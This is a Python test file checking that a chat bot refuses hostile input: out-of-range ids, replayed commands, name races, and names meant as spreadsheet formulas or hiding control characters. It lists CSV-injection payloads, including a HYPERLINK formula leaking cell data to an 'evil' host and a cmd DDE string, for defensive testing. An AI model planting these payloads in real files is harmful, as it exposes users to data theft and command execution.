"""Hostile input to the core (issue #12): huge numbers, replayed commands, names made to run as
formulas or to hide characters. Each is refused with words a person understands, and nothing
is stored."""

from __future__ import annotations

import csv
import io

import pytest

from bot.model.domain import ConversationKind, ConversationRef, UserRef, WorkspaceRef
from bot.model.events import CommandEffect, CommandInvoked
from bot.model.names import MAX_ID, InvalidName, clean_name, spreadsheet_safe
from bot.model.store import NameTakenError
from bot.runtime.outputs import rows_to_csv
from tests.core.conftest import World
from tests.core.test_commands import ADMIN, snapshot

HUGE = "999999999999999999999999"


@pytest.mark.parametrize(
    ("line", "what"),
    [
        (f"report round:{HUGE}", "round"),
        (f"poll close round:{HUGE}", "round"),
        (f"research show {HUGE}", "study id"),
        (f"schedule pause {HUGE}", "schedule id"),
        (f"schedule next #{HUGE}", "schedule id"),
        ("report round:0", "round"),
        (f"report round:{MAX_ID + 1}", "round"),
    ],
)
async def test_numbers_beyond_the_database_range_get_a_clear_message(
    world: World, line: str, what: str
) -> None:
    """Finding 7: `report round:999…` was "Sorry, that did not work" (OverflowError)."""
    out = await world.run(ADMIN, f"/alignment {line}")
    assert out.startswith(f"Error: {what} must be a number from 1 to {MAX_ID}"), out


async def test_a_huge_round_number_in_an_answer_is_no_round(world: World) -> None:
    session = world.session("emp")
    assert await session.handle_line(f"answer {HUGE} 1 2 3") == f"There is no round {HUGE}."
    assert await session.handle_line(f"poll {HUGE}") == f"There is no round {HUGE}."


def _invocation(text: str, event_id: str) -> CommandInvoked:
    workspace = WorkspaceRef("console", "local")
    return CommandInvoked(
        event_id=event_id,
        user=UserRef(workspace, ADMIN, "boss"),
        text=text,
        conversation=ConversationRef(workspace, "general", ConversationKind.CHANNEL),
    )


async def test_a_replayed_poll_now_opens_one_round(world: World) -> None:
    """Finding 2: the same signed `poll now` twice opened two rounds."""
    core = world.app.core
    first = await core.handle_command(_invocation("poll now", "slack:command:T1"))
    replay = await core.handle_command(_invocation("poll now", "slack:command:T1"))
    assert first.ok
    assert "is open" in first.text
    assert replay.effect is CommandEffect.REPLAYED
    assert replay.text == ""
    status = await world.run(ADMIN, "/alignment poll status")
    assert len(status.splitlines()) == 1, status


async def test_a_replayed_attributes_add_adds_once_and_a_repeat_says_it_exists(
    world: World,
) -> None:
    """Finding 2: replaying `attributes add` ended in an IntegrityError ("Sorry…")."""
    core = world.app.core
    line = 'attributes add "sustainability"'
    assert (await core.handle_command(_invocation(line, "slack:command:A1"))).ok
    replay = await core.handle_command(_invocation(line, "slack:command:A1"))
    assert replay.effect is CommandEffect.REPLAYED
    again = await core.handle_command(_invocation('attributes add "Sustainability"', "other"))
    assert (again.ok, again.text) == (False, "Attribute 'sustainability' already exists.")
    listed = await world.run(ADMIN, "/alignment attributes list")
    assert listed.count("sustainability") == 1


async def test_a_name_taken_in_a_race_is_a_clear_error_not_a_crash(world: World) -> None:
    """Two requests that both passed the "exists?" check: the database's verdict is
    NameTakenError, which the handlers turn into words."""
    store = world.app.store
    workspace = await world.app.core.workspace(WorkspaceRef("console", "local"))
    await store.add_team(workspace.id, "sales", linked_source=None, actor="a")
    with pytest.raises(NameTakenError, match="Team 'sales' already exists"):
        await store.add_team(workspace.id, "sales", linked_source=None, actor="b")


FORMULAS = [
    '=HYPERLINK("http://evil/?"&A1,"x")',
    "+cmd|/C calc!A0",
    "-2+3",
    "@SUM(1)",
    "\tindent",
    "\rreturn",
    "＝1+1",
]
HIDDEN = ["bell\x07", "esc\x1b[31m", "nul\x00", "rtl\u202eevil", "del\x7f"]


@pytest.mark.parametrize("name", FORMULAS + HIDDEN)
@pytest.mark.parametrize(
    "template",
    [
        "attributes add {q}",
        'attributes rename "price" {q}',
        "teams add {q}",
        "schedule add every monday 09:00 name:{q}",
    ],
)
async def test_names_that_run_as_formulas_or_hide_characters_are_refused(
    world: World, name: str, template: str
) -> None:
    """Finding 4: `attributes add` checked only the length; team names nothing at all."""
    before = await snapshot(world)
    quoted = '"' + name.replace('"', '\\"') + '"'
    out = await world.run(ADMIN, "/alignment " + template.format(q=quoted))
    assert out.startswith("Error: "), out
    assert "cannot" in out or "needs" in out, out
    assert await snapshot(world) == before


def test_name_rules_in_one_place() -> None:
    assert clean_name("  on-time   delivery ", "a name") == "on-time delivery"
    assert clean_name("<!channel> *ping*", "a name") == "<!channel> *ping*"  # escaped on output
    for bad in ["", " ", "x" * 81, "=1", "@here", "+1", "-1", "a\x00b", "a\tb"]:
        with pytest.raises(InvalidName):
            clean_name(bad, "a name")


def test_the_export_neutralises_formulas_from_before_the_rules() -> None:
    rows = [
        {
            "round": 1,
            "closed_at": "2026-03-02T09:00:00+00:00",
            "group": name,
            "respondents": 5,
            "attribute": name,
            "staff_consensus_rank": 1,
            "staff_top_k_share": -0.5,
            "customer_top_k_share": "",
        }
        for name in FORMULAS
    ]
    read = list(csv.DictReader(io.StringIO(rows_to_csv(rows))))
    assert len(read) == len(FORMULAS)  # no cell broke its row
    for row, name in zip(read, FORMULAS, strict=True):
        assert row["group"] == row["attribute"] == "'" + name.replace("\r", " ")
        assert row["staff_top_k_share"] == "-0.5"  # numbers stay numbers
    assert spreadsheet_safe("price") == "price"
